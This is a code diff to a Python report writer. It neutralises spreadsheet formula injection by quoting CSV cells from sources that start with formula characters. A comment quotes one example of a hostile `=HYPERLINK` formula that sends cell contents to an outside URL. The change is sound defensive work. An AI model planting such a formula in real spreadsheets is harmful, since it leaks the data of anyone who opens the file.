@@ -162,6 +162,16 @@ def _money(fee: float | None) -> str:
     return "" if fee is None else f"{fee:.2f}"
 
 
+# A spreadsheet runs a cell that begins with one of these as a formula, so a byline written
+# `=HYPERLINK("http://…?"&A2)` would send the sheet away when opened (OWASP, "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _text_cell(text: str) -> str:
+    """A cell of text from the sources: after a ', a spreadsheet takes it for text."""
+    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+
+
 def as_csv(items: list[ItemStats], total: dict) -> str:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
@@ -169,6 +179,7 @@ def as_csv(items: list[ItemStats], total: dict) -> str:
     for item in items:
         row = asdict(item)
         row["authors"] = "、".join(item.authors)
+        row.update({key: _text_cell(row[key]) for key in ("file", "title", "authors", "folios")})
         row["fee"] = _money(item.fee)
         writer.writerow([row[k] for k in JSON_KEYS])
     writer.writerow(["total", "", "", *(total[k] for k in JSON_KEYS[3:7]), "",
@@ -194,6 +205,6 @@ def write_fee_sheet(items: list[ItemStats], path: Path) -> Path:
         writer = csv.writer(f, lineterminator="\n")
         writer.writerow(["author", "items", "layout_chars", "fee"])
         for row in fee_sheet(items):
-            writer.writerow([row["author"], "；".join(row["items"]), row["layout_chars"],
-                             _money(row["fee"])])
+            writer.writerow([_text_cell(row["author"]), _text_cell("；".join(row["items"])),
+                             row["layout_chars"], _money(row["fee"])])
     return path
